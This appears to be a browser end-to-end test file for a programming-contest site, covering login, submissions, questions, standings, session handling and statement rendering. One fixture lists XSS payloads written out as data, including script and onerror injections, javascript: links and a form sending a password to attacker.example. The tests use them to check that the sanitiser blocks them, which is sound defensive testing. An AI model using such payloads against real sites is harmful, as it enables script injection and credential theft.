import { expect, it, onTestFinished } from 'vitest'
import { SOLUTION } from '../../tools/local-servers/submitter.ts'
import { isoIn } from '../support/contests.ts'
import { smallPackage } from '../support/small-package.ts'
import { startTcpProxy } from '../support/tcp-proxy.ts'
import { zipEntries } from '../support/zip-packages.ts'
import { inBrowser, openPage, takePicture, watchPolicy } from './browser.ts'
import { BERTA, FORMULAS, logIn, startContest, takePart } from './class-contest.ts'

const ATTACKS = `${FORMULAS}
<script>document.title = 'attacked'</script>
<img src="x" onerror="document.title = 'attacked'">
<p style="color: red" onclick="document.title = 'attacked'">Red</p>
<a href="javascript:document.title = 'attacked'">A link</a>
<form action="https://attacker.example"><input name="password"></form>

$\\href{javascript:alert(1)}{x}$
`

/** A picture of one dot, as PNG. */
const DOT = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=='

type Contest = Awaited<ReturnType<typeof startContest>>

/** Opens the page of a contest, and logs Berta in. */
async function openContest({ pageUrl }: Contest) {
  const opened = await openPage()
  const violations = await watchPolicy(opened.page)
  await opened.page.goto(pageUrl)
  await logIn(opened.page)
  return { ...opened, violations }
}

inBrowser('the page of a contest', () => {
  it('leads from the login to ACCEPTED, with questions, announcements and standings', async () => {
    const contest = await startContest()
    const { page, origins, complaints, violations } = await openContest(contest)
    await page.getByRole('heading', { name: 'Class test' }).waitFor()
    await takePart(page)
    await page.getByRole('link', { name: /Twice as much/ }).click()
    await page.locator('.sample', { hasText: '42' }).waitFor()
    await takePicture(page, 'contest-problem')

    await page.getByLabel('Program').fill('console.log(0)')
    await page.getByRole('button', { name: 'Submit' }).click()
    await page.locator('.submissions', { hasText: 'Wrong answer' }).waitFor()
    const file = { name: 'right.js', mimeType: 'text/javascript', buffer: Buffer.from(SOLUTION) }
    await page.getByLabel('File').setInputFiles(file)
    await page.getByRole('button', { name: 'Submit' }).click()
    await page.locator('.submissions', { hasText: 'Accepted' }).waitFor()
    await page.locator('.notices', { hasText: 'A: Accepted' }).waitFor()
    await takePicture(page, 'contest-accepted')

    await page.getByRole('link', { name: 'Questions' }).click()
    await page.getByLabel('Question').fill('Is zero a number? <img src=x onerror=alert(1)>')
    await page.getByRole('button', { name: 'Ask' }).click()
    await page.locator('.questions li', { hasText: 'Is zero a number?' }).waitFor()
    const { admin, event } = contest
    const [question] = await admin('GET', `${event}/questions`)
    await admin('PUT', `${event}/questions/${question.id}/answer`, { answer: 'Yes, it is.' })
    await page.locator('.notices', { hasText: 'Your question was answered: Yes, it is.' }).waitFor()
    await admin('POST', `${event}/announcements`, { announcement: 'Lunch is at one.' })
    await page.locator('.notices', { hasText: 'Announcement: Lunch is at one.' }).waitFor()
    await page.locator('.questions .announcement', { hasText: 'Lunch is at one.' }).waitFor()
    await takePicture(page, 'contest-questions')

    await page.getByRole('link', { name: 'Standings' }).click()
    await page.reload()
    await page.locator('tr.own', { hasText: 'Berta' }).waitFor()
    await takePicture(page, 'contest-standings')
    expect(await violations()).toEqual([])
    expect(complaints).toEqual([])
    expect([...origins]).toEqual([contest.url])
  })

  it('shows formulas, and runs nothing of a statement', async () => {
    const contest = await startContest({}, ATTACKS)
    const { page, complaints, violations } = await openContest(contest)
    await takePart(page)
    await page.getByRole('link', { name: /Twice as much/ }).click()
    const statement = page.locator('.statement')
    await statement.locator('math mfrac').waitFor()
    expect(await statement.locator('math').count()).toBe(3)
    expect(await statement.innerText()).toContain('It costs $5 and not $6.')
    expect(
      await statement.locator('script, form, input, img[src], [style*=red], [onclick], [href]').count(),
    ).toBe(0)
    await statement.getByText('Red').click()
    await statement.getByText('A link').click()
    expect(await page.title()).toBe('Class test')
    // Chromium reports attributes when the sanitiser parses them, in a document that runs nothing.
    const fromParser = /^(script|style)-src-attr inline .*\/v1\/pages\/contest-[\w-]+\.js$/
    expect((await violations()).filter((text) => !fromParser.test(text))).toEqual([])
    expect(complaints.filter((text) => !/inline (style|event handler)/.test(text))).toEqual([])
  })

  it('shows the source of a statement that takes too long; a worker parses it, and ends', async () => {
    const long = '**a_'.repeat(10_000)
    const contest = await startContest({}, long)
    const { page, complaints, violations } = await openContest(contest)
    await takePart(page)
    const working = page.waitForEvent('worker')
    await page.getByRole('link', { name: /Twice as much/ }).click()
    const worker = await working
    await page.getByLabel('Program').fill(SOLUTION)
    await page.locator('.statement .source').waitFor()
    expect(await page.locator('.statement .source').textContent()).toBe(long)
    await expect.poll(() => page.workers()).toEqual([])
    const main = await page.locator('script[src*=contest]').getAttribute('src')
    const hasParser = async (path: string) =>
      (await (await fetch(new URL(path, contest.url))).text()).includes('markedjs')
    expect([await hasParser(worker.url()), await hasParser(String(main))]).toEqual([true, false])
    expect(await violations()).toEqual([])
    expect(complaints).toEqual([])
  })

  it('keeps the token in this tab only, and asks again when it has ended', async () => {
    const contest = await startContest()
    const { page, complaints } = await openPage()
    const urls: string[] = []
    page.on('request', (request) => urls.push(request.url()))
    await page.goto(contest.pageUrl)
    await logIn(page, { ...BERTA, password: 'another password' })
    await page.getByText('The e-mail address or the password is wrong.').waitFor()
    expect(complaints.splice(0)).toEqual([expect.stringContaining('status of 401')])
    await logIn(page)
    await page.getByRole('heading', { name: 'Problems' }).waitFor()
    const { token } = JSON.parse(await page.evaluate<string>(`sessionStorage.getItem('session')`))
    expect(await page.evaluate('[localStorage.length, document.cookie]')).toEqual([0, ''])
    expect(urls.filter((url) => url.includes(token))).toEqual([])
    await page.reload()
    await page.getByRole('heading', { name: 'Problems' }).waitFor()
    const other = await page.context().newPage()
    await other.goto(contest.pageUrl)
    await other.getByRole('heading', { name: 'Log in' }).waitFor()

    await contest.admin('PUT', `/users/${contest.account.id}/password`, { password: 'a new one' })
    await page.getByRole('alert').filter({ hasText: 'Log in again' }).waitFor()
    expect(await page.evaluate('sessionStorage.length')).toBe(0)
  })

  it('submits once, also after a lost response and a 503', async () => {
    const contest = await startContest()
    const { page } = await openContest(contest)
    await page.getByRole('link', { name: /Twice/ }).click()
    const keys: (string | undefined)[] = []
    await page.route('**/v1/submissions', async (route) => {
      keys.push(route.request().headers()['idempotency-key'])
      if (keys.length === 1) {
        await route.fetch()
        return route.abort('connectionreset')
      }
      if (keys.length === 2)
        return route.fulfill({ status: 503, headers: { 'retry-after': '1' }, body: 'Away' })
      return route.continue()
    })
    await page.getByLabel('Program').fill(SOLUTION)
    await page.getByRole('button', { name: 'Submit' }).click()
    await page.locator('form [role=status]', { hasText: 'was submitted' }).waitFor()
    expect(new Set(keys).size).toBe(1)
    expect(keys.length).toBe(3)
    expect(await contest.berta('GET', `/user_submissions/${contest.account.id}`)).toHaveLength(1)
  })

  it('shows titles before the start, and the statement after it without a reload', async () => {
    const contest = await startContest({ start_time: isoIn(5) })
    const { page } = await openContest(contest)
    await takePart(page)
    await page.locator('.clock', { hasText: 'Starts in' }).waitFor()
    await page.getByRole('link', { name: /Twice as much/ }).click()
    await page.getByRole('alert').filter({ hasText: 'has not started' }).waitFor()
    await page.getByText('The contest has not started yet.').waitFor()
    expect(await page.getByLabel('Program').count()).toBe(0)
    await contest.admin('PUT', contest.event, { start_time: isoIn(-1) })
    await page.locator('.statement math').first().waitFor()
    await page.locator('.clock', { hasText: 'Time left' }).waitFor()
    await page.getByLabel('Program').waitFor()
  })

  it('shows that the service is lost, and reads what it has missed when it is back', async () => {
    const contest = await startContest()
    const { hostname, port } = new URL(contest.url)
    const proxy = await startTcpProxy({ host: hostname, port: Number(port) })
    onTestFinished(() => proxy.close())
    const { page } = await openPage()
    await page.goto(`http://127.0.0.1:${proxy.port}/v1/contest/${contest.eventId}`)
    await logIn(page)
    await page.getByRole('link', { name: 'Questions' }).click()
    await page.getByText('There are none yet.').waitFor()
    proxy.cut()
    await page.locator('.banner.lost', { hasText: /No connection to the service/ }).waitFor()
    await contest.admin('POST', `${contest.event}/announcements`, { announcement: 'The power is back.' })
    proxy.restore()
    await page.locator('.banner.lost').waitFor({ state: 'detached' })
    await page.locator('.notices', { hasText: 'The power is back.' }).waitFor()
  })

  it('shows the pictures of a statement, which need the token of the user', async () => {
    const contest = await startContest()
    const prompt = 'Look:\n\n![A dot](dot.png)\n\n![None](https://attacker.example/dot.png)\n'
    const changes = { 'statement/problem.en.md': prompt, 'statement/dot.png': Buffer.from(DOT, 'base64') }
    const imported = await fetch(`${contest.url}/v1/problem_packages`, {
      method: 'POST',
      headers: { Authorization: contest.adminToken, 'Content-Type': 'application/zip' },
      body: await zipEntries(smallPackage(changes)),
    })
    const { problem_id } = Object(await imported.json())
    await contest.admin('POST', `${contest.event}/problems`, { problem_id, label: 'B' })
    const { page, origins, complaints, violations } = await openContest(contest)
    await takePart(page)
    await page.getByRole('link', { name: /Small/ }).click()
    await page.locator('.statement img[src^="blob:"]').waitFor()
    const width = () => page.getByAltText('A dot').evaluate((picture) => Object(picture).naturalWidth)
    await expect.poll(width).toBe(1)
    expect(await page.getByAltText('None').getAttribute('src')).toBe(null)
    expect(await page.locator('.files button').allInnerTexts()).toEqual(['dot.png'])
    expect(await violations()).toEqual([])
    expect(complaints).toEqual([])
    expect([...origins].filter((origin) => origin !== 'null')).toEqual([contest.url])
  })
})
